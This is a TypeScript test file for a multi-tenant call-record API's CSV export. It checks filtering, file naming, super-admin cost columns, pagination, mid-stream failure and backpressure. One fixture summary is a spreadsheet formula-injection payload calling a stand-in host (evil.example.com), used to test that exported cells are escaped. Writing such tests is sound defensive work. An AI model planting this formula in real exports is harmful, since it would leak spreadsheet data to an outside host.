import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setImmediate as turn } from 'node:timers/promises'
import type { Call, Page } from '@roy/types'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createApp } from '../../app.ts'
import { type Database, DatabaseError } from '../../providers/supabase/database.ts'
import { callBody, deliver } from '../../testing/deliver.ts'
import { expectError } from '../../testing/expect-answer.ts'
import { createTestApi, type TestApi, type TestClient } from '../../testing/test-api.ts'

const SUMMARIES = [
  'Wants an invoice for "Zoë & Söhne", says she paid twice',
  '=WEBSERVICE("https://evil.example.com/"&A1)',
  'Line one\nline two;\r\n日本語 👋',
]

let api: TestApi
let client: TestClient
let agents: string[]

beforeAll(async () => {
  api = await createTestApi()
  client = await api.createClient()
  const fields = { organization_id: client.organization.id, agent_id: 'agent_second', name: '@Second "desk"' }
  const { body: second } = await api.post('/api/agents', fields, api.superAdmin).expect(201)
  agents = [client.agent.id, second.id]
  await deliver(api, client, callBody(client, 'call_ended', { call_id: 'validation' })).expect(200)
  for (let index = 0; index < 12; index += 1) await deliverCall(index, second.agent_id)
})
afterAll(() => api.close())

/** Calls that differ in everything one can filter by. */
async function deliverCall(index: number, secondAgentId: string): Promise<void> {
  const start_timestamp = Date.now() + 1_000 - (index % 4) * 86_400_000
  const isConnected = index % 5 !== 0
  const call = {
    call_id: `call_${index}`,
    agent_id: index % 3 === 0 ? secondAgentId : client.agent.agent_id,
    direction: index % 2 === 0 ? 'inbound' : 'outbound',
    from_number: `+1415555010${index % 10}`,
    start_timestamp,
    end_timestamp: start_timestamp + 61_000 * index,
    duration_ms: 61_000 * index,
    ...(!isConnected && { call_status: 'not_connected', disconnection_reason: 'dial_no_answer', duration_ms: 0 }),
    call_analysis: {
      call_summary: SUMMARIES[index % SUMMARIES.length],
      user_sentiment: ['Positive', 'Negative', 'Unknown'][index % 3],
    },
    call_cost: { combined_cost: 12.5 * index, product_costs: [] },
  }
  await deliver(api, client, callBody(client, 'call_analyzed', call)).expect(200)
}

const listPath = '/api/multi-tenant/calls'
const exportPath = '/api/multi-tenant/calls.csv'

async function list(query: string): Promise<Call[]> {
  const { body } = await api.get(`${listPath}?limit=200&${query}`, client.viewer).expect(200)
  return body.data
}

const readFile = (text: string): Record<string, string>[] => parse(text, { bom: true, columns: true })

/** The app, its users' database changed. */
function appWith(change: (database: Database) => Database) {
  const { databases } = api.dependencies
  return createApp({
    ...api.dependencies,
    databases: { ...databases, asUser: (user, origin) => change(databases.asUser(user, origin)) },
  })
}

/** Answers each page of calls in a way of its own; everything else as ever. */
function withPages(readPage: (database: Database, cursor: string | undefined) => Promise<Page<Call>>) {
  return appWith((database) => ({
    rpc: (name, args) =>
      name === 'get_organization_calls' && 'p_cursor' in args
        ? // What a page is belongs to this very function, which the type of a generic call cannot say.
          (readPage(database, args.p_cursor ?? undefined) as ReturnType<typeof database.rpc<typeof name>>)
        : database.rpc(name, args),
  }))
}

async function serve<Result>(
  app: ReturnType<typeof createApp>,
  use: (url: string, server: Server) => Promise<Result>,
): Promise<Result> {
  const server = createServer(app).listen(0, '127.0.0.1')
  await once(server, 'listening')
  try {
    return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}${exportPath}`, server)
  } finally {
    server.closeAllConnections()
    server.close()
  }
}

const bearer = () => ({ Authorization: `Bearer ${client.viewer.access_token}` })

describe('GET /api/multi-tenant/calls.csv', () => {
  test('is a file with a name that a spreadsheet opens, and has every call of the list with every field', async () => {
    const answer = await api.get(exportPath, client.viewer).expect(200)
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(answer.headers['content-disposition']).toBe(`attachment; filename=${client.organization.slug}-calls.csv`)
    const escaped = (value: unknown) => {
      const cell = String(value ?? '')
      return typeof value === 'string' && /^[=+@]/.test(cell) ? `'${cell}` : cell
    }
    const rows = readFile(answer.text).map(({ started_at_local: _, timezone: __, ...fields }) => fields)
    const calls = await list('')
    expect(calls).toHaveLength(13)
    expect(rows).toEqual(
      calls.map((call) => Object.fromEntries(Object.entries(call).map(([name, value]) => [name, escaped(value)]))),
    )
  })

  test('names the days it is of', async () => {
    const { headers } = await api.get(`${exportPath}?from=2026-01-01&to=2026-01-31`, client.viewer).expect(200)
    expect(headers['content-disposition']).toMatch(/-calls-2026-01-01-to-2026-01-31\.csv$/)
  })

  test('has the columns of costs for super admins alone, and its header even without a call', async () => {
    const own = await api.get(`${exportPath}?from=2021-01-01&to=2021-01-02`, client.admin).expect(200)
    expect(own.text.split('\r\n')).toEqual([expect.stringMatching(/^\ufeffstarted_at_local,.*,detailed_summary$/), ''])
    expect(own.text).not.toContain('provider_cost')

    const url = `${exportPath}?org_id=${client.organization.id}`
    const [row] = readFile((await api.get(url, api.superAdmin).expect(200)).text)
    expect(row).toMatchObject({ provider_cost: expect.any(String), margin: expect.any(String) })
    const none = await api.get(`${url}&from=2021-01-01&to=2021-01-02`, api.superAdmin).expect(200)
    expect(none.text).toContain(',provider_cost,margin,')
  })

  test.each(['limit=5', 'cursor=abc', 'from=2026-02-30', 'status=lost', 'search=%00'])('refuses ?%s', async (query) => {
    expectError(await api.get(`${exportPath}?${query}`, client.viewer), 'invalid_request')
  })
})

test('under any filters the list has exactly the calls that fit, and the file the same', {
  timeout: 60_000,
}, async () => {
  const all = await list('')
  const dayOf = (call: Call) => call.started_at.slice(0, 10) // the client's zone is UTC
  const days = [...new Set(all.map(dayOf))].sort()
  const words: Record<string, (call: Call) => boolean> = {
    invoice: ({ detailed_summary }) => detailed_summary?.includes('invoice') ?? false,
    'zoë PAID': ({ detailed_summary }) => detailed_summary?.includes('Zoë') ?? false,
    '5550101': ({ from_e164 }) => from_e164?.includes('5550101') ?? false,
    call_1: ({ external_call_id }) => external_call_id.includes('call_1'),
    nowhere: () => false,
  }
  const maybe = <Value>(...values: Value[]) => fc.option(fc.constantFrom(...values), { nil: undefined })
  const filters = fc.record({
    is_billable: maybe('true', 'false'),
    agent_id: maybe(...agents),
    status: maybe('ended', 'not_connected', 'error'),
    direction: maybe('inbound', 'outbound'),
    sentiment: maybe('positive', 'negative', 'unknown', 'neutral'),
    search: maybe(...Object.keys(words)),
    from: maybe(...days),
  })

  await fc.assert(
    fc.asyncProperty(filters, maybe(...days), async (filter, lastDay) => {
      const to = lastDay !== undefined && lastDay >= (filter.from ?? '') ? lastDay : undefined
      const expected = all.filter(
        (call) =>
          (filter.is_billable === undefined || String(call.is_billable) === filter.is_billable) &&
          (filter.agent_id === undefined || call.agent_id === filter.agent_id) &&
          (filter.status === undefined || call.status === filter.status) &&
          (filter.direction === undefined || call.direction === filter.direction) &&
          (filter.sentiment === undefined || call.sentiment === filter.sentiment) &&
          (filter.search === undefined || words[filter.search]?.(call)) &&
          (filter.from === undefined || dayOf(call) >= filter.from) &&
          (to === undefined || dayOf(call) <= to),
      )
      const query = new URLSearchParams()
      for (const [name, value] of Object.entries({ ...filter, to })) if (value !== undefined) query.set(name, value)
      expect((await list(`${query}`)).map(({ id }) => id)).toEqual(expected.map(({ id }) => id))
      const { text } = await api.get(`${exportPath}?${query}`, client.viewer).expect(200)
      expect(readFile(text).map(({ id }) => id)).toEqual(expected.map(({ id }) => id))
    }),
    { numRuns: 60 },
  )
})

describe('an export of many pages', () => {
  test('has every call once', async () => {
    const app = withPages((database, cursor) =>
      database.rpc('get_organization_calls', {
        p_org_id: client.organization.id,
        p_limit: 2,
        ...(cursor !== undefined && { p_cursor: cursor }),
      }),
    )
    const text = await serve(app, async (url) => (await fetch(url, { headers: bearer() })).text())
    expect(readFile(text).map(({ id }) => id)).toEqual((await list('')).map(({ id }) => id))
  })

  test('that cannot begin answers what is wrong', async () => {
    const app = withPages(() => Promise.reject(unavailable()))
    await serve(app, async (url) => {
      const answer = await fetch(url, { headers: bearer() })
      expect({ status: answer.status, body: await answer.json() }).toMatchObject({
        status: 503,
        body: { error: { code: 'unavailable' } },
      })
    })
  })

  test('that fails half way breaks off instead of looking whole', async () => {
    const [call] = await list('')
    const hasBegun = Promise.withResolvers<void>()
    const app = withPages(async (_, cursor) => {
      if (cursor !== undefined) {
        await hasBegun.promise
        throw unavailable()
      }
      return { data: call ? [call] : [], next_cursor: 'more' }
    })
    await serve(app, async (url) => {
      const answer = await fetch(url, { headers: bearer() })
      expect(answer.status).toBe(200)
      hasBegun.resolve()
      await expect(answer.text()).rejects.toThrow('terminated')
    })
    expect(api.log()).toContain('request failed')
  })

  test('stops when the client goes away', async () => {
    const [call] = await list('')
    const isGone = Promise.withResolvers<void>()
    let pages = 0
    const app = withPages(async () => {
      pages += 1
      if (pages > 1) await isGone.promise
      return { data: call ? [call] : [], next_cursor: 'more' }
    })
    await serve(app, async (url, server) => {
      const requested = once(server, 'request')
      const leaving = new AbortController()
      const answer = await fetch(url, { headers: bearer(), signal: leaving.signal })
      const [, response] = await requested
      const closed = once(response, 'close')
      await answer.body?.getReader().read()
      leaving.abort()
      await closed
      isGone.resolve()
      for (let turns = 0; turns < 10; turns += 1) await turn()
    })
    expect(pages).toBe(2)
  })

  test('reads no further ahead than the client takes', async () => {
    const [call] = await list('')
    const PAGES = 60
    const PAGE_BYTES = 1_000_000
    const detailed_summary = 'x'.repeat(PAGE_BYTES)
    let pages = 0
    const app = withPages(async () => {
      pages += 1
      return { data: call ? [{ ...call, detailed_summary }] : [], next_cursor: pages < PAGES ? 'more' : null }
    })
    let received = 0
    let furthestAhead = 0
    await serve(app, async (url) => {
      const { body } = await fetch(url, { headers: bearer() })
      for await (const chunk of body ?? []) {
        received += chunk.length
        furthestAhead = Math.max(furthestAhead, pages - received / PAGE_BYTES)
        for (let turns = 0; turns < 5; turns += 1) await turn()
      }
    })
    expect(received).toBeGreaterThan(PAGES * PAGE_BYTES)
    // What the sockets hold, and a page on either side of them.
    expect(furthestAhead).toBeLessThan(15)
  })
})

function unavailable(): DatabaseError {
  return new DatabaseError({
    caller: 'user',
    functionName: 'get_organization_calls',
    status: 503,
    code: '57P03',
    message: 'starting up',
    details: null,
  })
}
